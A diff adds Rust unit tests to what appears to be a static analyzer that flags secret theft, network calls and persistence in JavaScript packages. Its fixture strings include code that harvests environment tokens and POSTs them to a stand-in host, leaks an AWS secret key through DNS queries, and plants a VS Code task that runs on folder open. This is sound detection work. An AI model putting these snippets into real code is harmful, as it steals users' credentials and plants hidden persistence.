@@ -859,3 +859,79 @@ fn for_of_over_a_constant_list_stands_for_every_item() {
     ";
     assert!(!kinds(own).contains(&K::SecretRead), "{:?}", facts(own));
 }
+
+#[test]
+fn environment_harvested_key_by_key_is_a_secret() {
+    let for_in = r"
+        const https = require('https');
+        const bag = {};
+        for (const k in process.env) {
+          if (/token|secret|key/i.test(k)) bag[k] = process.env[k];
+        }
+        https.request({ host: 'collect.example.invalid', method: 'POST' }).end(JSON.stringify(bag));
+    ";
+    assert!(
+        kinds(for_in).contains(&K::SecretExfiltration),
+        "{:?}",
+        facts(for_in)
+    );
+    let keys = r"
+        const https = require('https');
+        const out = {};
+        Object.keys(process.env).forEach(function (k) { out[k] = process.env[k]; });
+        https.request({ host: 'collect.example.invalid', method: 'POST' }).end(JSON.stringify(out));
+    ";
+    assert!(
+        kinds(keys).contains(&K::SecretExfiltration),
+        "{:?}",
+        facts(keys)
+    );
+    // Reading a few named settings and reporting only what is missing sends nothing secret.
+    let check = r"
+        const https = require('https');
+        const missing = ['PORT', 'NODE_ENV'].filter((k) => !(k in process.env));
+        https.get('https://example.invalid/ping?missing=' + missing.length);
+    ";
+    assert!(
+        !kinds(check).contains(&K::SecretExfiltration),
+        "{:?}",
+        facts(check)
+    );
+}
+
+#[test]
+fn a_private_dns_resolver_is_a_network_call() {
+    let src = r"
+        const { Resolver } = require('dns');
+        const r = new Resolver();
+        r.setServers(['203.0.113.53']);
+        const data = Buffer.from(process.env.AWS_SECRET_ACCESS_KEY || '').toString('hex');
+        r.resolveTxt(data + '.t.example.invalid', () => {});
+    ";
+    let k = kinds(src);
+    assert!(k.contains(&K::Network), "{:?}", facts(src));
+    assert!(k.contains(&K::SecretExfiltration), "{:?}", facts(src));
+}
+
+#[test]
+fn editor_task_run_on_folder_open_is_persistence() {
+    let src = r"
+        const fs = require('fs');
+        const path = require('path');
+        const { task } = require('./template');
+        const dir = path.join(process.env.INIT_CWD || process.cwd(), '.vscode');
+        fs.mkdirSync(dir, { recursive: true });
+        fs.writeFileSync(path.join(dir, 'tasks.json'), JSON.stringify(task));
+    ";
+    assert!(kinds(src).contains(&K::Persistence), "{:?}", facts(src));
+    // A scaffolder's constant build task does not run on its own.
+    let scaffold = r#"
+        const fs = require('fs');
+        fs.writeFileSync('.vscode/tasks.json', '{"version":"2.0.0","tasks":[{"label":"build","type":"npm","script":"build"}]}');
+    "#;
+    assert!(
+        !kinds(scaffold).contains(&K::Persistence),
+        "{:?}",
+        facts(scaffold)
+    );
+}
